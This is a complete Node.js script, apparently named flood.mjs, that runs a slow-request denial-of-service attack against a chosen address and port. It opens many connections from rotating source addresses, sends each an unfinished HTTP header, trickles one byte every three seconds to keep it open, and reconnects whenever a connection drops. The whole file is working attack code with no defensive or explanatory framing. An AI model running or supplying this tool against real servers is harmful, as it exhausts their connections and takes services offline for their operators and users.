// Opens many connections and sends half a request on each, a byte of it every few seconds. Opens anew what is closed.
//
//   node flood.mjs ADDRESS PORT COUNT SOURCE...      prints "ready" once it has tried them all
import { connect } from "node:net";

const [address, port, count, ...sources] = process.argv.slice(2);

function open(n) {
  const socket = connect({ host: address, port: Number(port), localAddress: sources[n % sources.length] });
  const drip = setInterval(() => socket.write("a"), 3000);
  socket.on("connect", () => socket.write("GET / HTTP/1.1\r\nHost: flood\r\nX-Slow: "));
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(drip);
    setTimeout(open, 1000, n);
  });
}

for (let n = 0; n < Number(count); n++) {
  open(n);
  if (n % 200 === 199) await new Promise((done) => setTimeout(done, 100));
}
console.log("ready");
